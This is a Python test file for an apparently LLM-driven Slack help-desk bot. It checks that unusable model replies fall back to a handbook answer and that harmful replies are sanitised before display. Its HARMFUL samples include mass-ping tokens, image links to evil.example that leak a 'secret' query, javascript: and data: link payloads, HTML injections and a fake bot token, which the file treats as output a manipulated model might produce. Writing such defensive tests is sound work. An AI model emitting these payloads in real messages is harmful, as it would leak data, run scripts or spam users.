"""Whatever a model writes, people see one answer, and nothing in it can do harm by being shown."""

from __future__ import annotations

import re

import pytest

from tests.stories.conftest import LEAVE, OpenCompany
from tests.support.chats import Shown
from tests.support.clock import TestClock
from tests.support.company import Company
from tests.support.scripted import Say, ScriptedProvider, decision

QUESTION = "How many days of annual leave do I get?"

UNUSABLE = {
    "prose": "You get 27 days.",
    "nothing": "",
    "an empty response": decision(response=" "),
    "half of it": decision()[:40],
    "a list": f"[{decision()}]",
    "two of them": decision() + decision(),
    "in a code fence": f"```json\n{decision()}\n```",
    "another schema": '{"answer": "27 days"}',
    "a further field": decision(channel="C0GENERAL"),
    "another conversation's id": decision(conversation="slack:T0FRONTDESK:C0GENERAL:1.2"),
    "confidence 7": decision(confidence=7),
    "confidence in words": decision(confidence="high"),
    "no confidence": decision(confidence=None),
    "an action of its own": decision(action="delete_everything"),
    "a citation that is none": decision(citations=["p7"]),
    "a citation that is a link": decision(citations=["https://evil.example"]),
}

PINGS = [
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U0000000001>",
    "<#C0000000004>",
    "<!subteam^S1>",
]
HARMFUL = {
    "pings": "Hello " + " ".join(PINGS),
    "pings with labels": "<!channel|everyone> <@U0000000001|ada>",
    "pings in code": "`<!channel>` and\n```\n<@U0000000001>\n```",
    "pings with something invisible": "<\u200b!channel> <\u2060@U0000000001> \uff1c!here\uff1e",
    "escaped pings": "&lt;!channel&gt; \\<!channel> <\\!channel>",
    "words that call": "@channel @here @everyone @ada",
    "pictures": "![x](https://evil.example/?q=secret) ![y][z]\n\n[z]: https://evil.example/z.png",
    "html pictures": '<img src="https://evil.example/x.png"> <a href="javascript:alert(1)">x</a>',
    "scripts": "[click](javascript:alert(1)) [click]( JavaScript:alert(1)) [x](data:text/html,x)",
    "nested links": "[a [b](javascript:alert(1))](javascript:alert(2)) <javascript:alert(3)>",
    "odd labels": "[a\\]b](javascript:alert(1)) [a [x] b](javascript:alert(2)) [](javascript:3)",
    "links of reference": "[click][1]\n\n[1]: javascript:alert(1)",
    "slack links": "<https://evil.example|https://good.example> <javascript:alert(1)|click>",
    "secrets": "The token is xoxb-1234567890-abcdefghij.",
}


def harmless(one: Company, message: Shown) -> None:
    """Nothing in it pings, fetches, runs, or gives a secret away."""
    shown = message.given
    assert one.chat.pings(message) == []
    assert not re.search(r"(?i)(\]\(|<|\]:)\s*<?\s*(javascript|data):", shown), shown
    assert "![" not in shown, shown
    assert "xoxb-1" not in shown, shown
    assert not re.search(r"@(channel|here|everyone)\b", shown), shown


def only_here(one: Company, channel: str) -> None:
    """Nothing was posted anywhere else."""
    for other in one.chat.channels():
        assert other == channel or one.chat.messages(other) == []


@pytest.mark.parametrize("unusable", UNUSABLE.values(), ids=UNUSABLE.keys())
async def test_output_that_cannot_be_used(
    opened: OpenCompany, clock: TestClock, unusable: str
) -> None:
    """Asked twice, the model still writes nonsense; the handbook answers, once, and only there."""
    model = ScriptedProvider("model", clock, [Say(unusable)])
    text = decision(response="From the handbook.", citations=["p1"])
    resort = ScriptedProvider("knowledge:", clock, [Say(text)], model_free=True)
    one = await opened(model, resort)
    await one.teach(LEAVE)
    asked = await one.dm(one.ada, QUESTION)
    await clock.advance(60)
    assert len(model.asked) == 2
    (answer,) = one.answers(asked)
    assert "From the handbook." in one.texts(asked)[0]
    harmless(one, answer)
    only_here(one, asked.channel)


@pytest.mark.parametrize("response", HARMFUL.values(), ids=HARMFUL.keys())
async def test_an_answer_that_would_do_harm(
    opened: OpenCompany, clock: TestClock, response: str
) -> None:
    """The model was talked into pings, pictures or scripts; what is shown is harmless."""
    model = ScriptedProvider("model", clock, [Say(decision(response=response))])
    one = await opened(model)
    asked = await one.dm(one.ada, QUESTION)
    (answer,) = one.answers(asked)
    harmless(one, answer)
    only_here(one, asked.channel)


@pytest.mark.parametrize("response", HARMFUL.values(), ids=HARMFUL.keys())
async def test_a_draft_that_would_do_harm(
    opened: OpenCompany, clock: TestClock, response: str
) -> None:
    """The same as a draft on a case's card: the people at the desk are no less precious."""
    text = decision(response=response, action="escalate")
    one = await opened(ScriptedProvider("model", clock, [Say(text)]))
    await one.dm(one.ada, "May I?")
    (card,) = one.cards()
    harmless(one, card)


async def test_an_answer_that_is_too_long(opened: OpenCompany, clock: TestClock) -> None:
    """2,500 characters are cut at the end of a paragraph, and the cut is marked."""
    response = "\n\n".join(f"Paragraph {number}. " + "word " * 30 for number in range(15))
    assert len(response) > 2400
    one = await opened(ScriptedProvider("model", clock, [Say(decision(response=response))]))
    asked = await one.dm(one.ada, QUESTION)
    (answer,) = one.answers(asked)
    assert 1800 < len(answer.text) <= 2000
    assert answer.text.endswith("word\n…")


async def test_markers_without_a_source_vanish(opened: OpenCompany, clock: TestClock) -> None:
    """A marker in the words that no citation stands for is not shown as one."""
    text = decision(response="27 days [p1], or more [p4][p2, p1].", citations=["p1"])
    one = await opened(ScriptedProvider("model", clock, [Say(text)]))
    await one.teach(LEAVE)
    asked = await one.dm(one.ada, QUESTION)
    assert one.texts(asked)[0].startswith("27 days [1], or more [1].")
